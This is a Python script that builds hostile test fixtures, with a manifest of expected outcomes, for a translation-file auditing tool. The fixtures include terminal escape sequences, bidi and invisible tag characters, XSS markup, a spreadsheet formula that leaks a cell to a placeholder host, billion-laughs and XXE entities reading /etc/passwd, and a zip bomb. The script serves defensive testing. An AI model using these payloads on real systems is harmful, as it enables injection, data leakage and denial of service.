"""Build ``tests/fixtures/hostile/``: one small file per hostile case of issue 15, and
``manifest.json`` saying what ``transaudit check`` must do with each (refuse it with one line naming
the file and a given phrase, exit 2; or audit it, exit 0, with nothing raw reaching the terminal).

Every file is made here from a few lines of our own text, never copied; run it again after adding a
case:

    python scripts/build_hostile.py
"""
from __future__ import annotations

import io
import json
import os
import zipfile

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
OUT = os.path.join(ROOT, "tests", "fixtures", "hostile")

ESC = "\x1b"
# what a terminal would act on: a title change (OSC 0), a screen clear, an OSC 8 link, a bell
TERMINAL = f"{ESC}]0;pwned\x07{ESC}[2J{ESC}]8;;http://example.invalid/\x07link{ESC}]8;;\x07\x07"
BIDI = "\u202eevil\u202c"
TAGS = "".join(chr(0xE0000 + ord(c)) for c in "ignore all")  # invisible "ASCII smuggling"
MARKUP = '[bold red]rich[/] <script>alert(1)</script> "\'><img src=x onerror=alert(1)>'
FORMULA = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")'


def _po(header: str, body: str) -> bytes:
    return (f'msgid ""\nmsgstr ""\n{header}\n\n{body}').encode("utf-8")


def _po_header(**fields: str) -> str:
    base = {"Content-Type": "text/plain; charset=UTF-8", "Language": "de"}
    base.update(fields)
    return "\n".join(f'"{k}: {v}\\n"' for k, v in base.items())


def _jsonl(rows) -> bytes:
    return "".join(json.dumps(r, ensure_ascii=False) + "\n" for r in rows).encode("utf-8")


def _docx(document_xml: bytes) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in (("[Content_Types].xml", b"<Types/>"), ("word/document.xml", document_xml)):
            z.writestr(zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0)), data, zipfile.ZIP_DEFLATED)
    return buf.getvalue()


def _xliff(units: str, prolog: str = "") -> bytes:
    return (f'<?xml version="1.0" encoding="UTF-8"?>\n{prolog}<xliff version="1.2" '
            f'xmlns="urn:oasis:names:tc:xliff:document:1.2"><file source-language="en" target-language="de" '
            f'datatype="plaintext" original="x"><body>{units}</body></file></xliff>\n').encode("utf-8")


def _unit(uid: str, src: str, tgt: str) -> str:
    return f'<trans-unit id="{uid}"><source>{src}</source><target>{tgt}</target></trans-unit>'


LAUGHS = ('<!DOCTYPE lolz [<!ENTITY lol "lol">' + "".join(
    f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10)) + "]>\n")


def cases() -> list[tuple[str, bytes, dict]]:
    """(file name, bytes, expectation) for every case."""
    ok = {"exit": 0}

    def refused(phrase: str) -> dict:
        return {"exit": 2, "error": phrase}

    return [
        # declared encodings that are not text encodings, or unknown
        *[(f"charset-{c}.po", _po(_po_header(**{"Content-Type": f"text/plain; charset={c}"}),
                                  'msgid "Hello"\nmsgstr "Hallo"\n'), refused("charset"))
          for c in ("zlib", "bz2", "base64", "hex", "uu", "quopri", "rot13", "punycode", "no-such-codec")],
        ("plural-index-huge.po", _po(_po_header(**{"Plural-Forms": "nplurals=2; plural=(n != 1);"}),
                                     'msgid "file"\nmsgid_plural "files"\nmsgstr[0] "Datei"\n'
                                     'msgstr[999999999] "Dateien"\n'), refused("plural index")),
        ("id-5000-digits.jsonl", b'{"id": ' + b"9" * 5000 + b', "source": "Hello.", "target": "Hallo."}\n',
         refused("digits")),
        ("nested-arrays.jsonl", b'{"source": "Hello.", "target": "Hallo.", "x": ' + b"[" * 100_000
         + b"]" * 100_000 + b"}\n", refused("nested")),
        # terminal escapes, bidi overrides, tag characters and markup in every text field
        ("escapes-in-fields.jsonl", _jsonl([
            {"id": f"id{TERMINAL}", "source": f"Press OK {TERMINAL}.", "target": f"OK drücken {TERMINAL}.",
             "source_lang": "en", "target_lang": f"de{ESC}[2J"},
            {"id": "2", "source": f"Total {BIDI}.", "target": f"Summe {BIDI}.", "source_lang": "en", "target_lang": "de"},
            {"id": "3", "source": "Save the file.", "target": f"Datei speichern.{TAGS}", "source_lang": "en",
             "target_lang": "de"},
            {"id": "4", "source": MARKUP, "target": MARKUP, "source_lang": "en", "target_lang": "de"},
            {"id": FORMULA, "source": FORMULA, "target": "-" + FORMULA, "source_lang": "en", "target_lang": "de"},
        ]), ok),
        ("escapes-in-header.po", _po(_po_header(Language=f"de{ESC}]0;pwned\x07"),
                                     f'msgid "Hello {TERMINAL}"\nmsgstr "Hallo {TERMINAL}"\n'), ok),
        # XML attacks: entity expansion, external entities, external DTDs
        ("billion-laughs.xlf", _xliff(_unit("1", "Hello &lol9;", "Hallo"), LAUGHS), refused("amplification")),
        # the entity stays unresolved: the file's text is audited, /etc/passwd is never read
        ("xxe-file.xlf", _xliff(_unit("1", "Hello &xxe;", "Hallo"),
                                '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'),
         {"exit": 0, "absent": "root:"}),
        ("external-dtd.xlf", _xliff(_unit("1", "Hello", "Hallo"),
                                    '<!DOCTYPE xliff SYSTEM "http://example.invalid/x.dtd">\n'), ok),
        ("deep-nesting.xlf", _xliff(_unit("1", "<g id='a'>" * 5000 + "x" + "</g>" * 5000, "Hallo")),
         refused("depth")),
        # zipped documents that unpack far beyond their size
        ("bomb.docx", _docx(b"<w:document>" + b" " * 20_000_000 + b"</w:document>"),
         {**refused("zip bomb"), "inputs": ["bomb.docx", "bomb.docx"]}),  # two documents to align
        # binary and undecodable input
        ("binary.tsv", bytes(range(256)) * 4, refused("binary")),
        ("latin1-declared-utf8.po", _po(_po_header(), "") + b'msgid "Stra\xdfe"\nmsgstr "Stra\xdfe"\n', refused("UTF-8")),
    ]


def main() -> None:
    os.makedirs(OUT, exist_ok=True)
    manifest = {}
    for name, data, expect in cases():
        with open(os.path.join(OUT, name), "wb") as fh:
            fh.write(data)
        manifest[name] = expect
    with open(os.path.join(OUT, "manifest.json"), "w", encoding="utf-8") as fh:
        json.dump(manifest, fh, indent=1, sort_keys=True)
        fh.write("\n")
    print(f"{len(manifest)} hostile cases written to {os.path.relpath(OUT, ROOT)}")


if __name__ == "__main__":
    main()
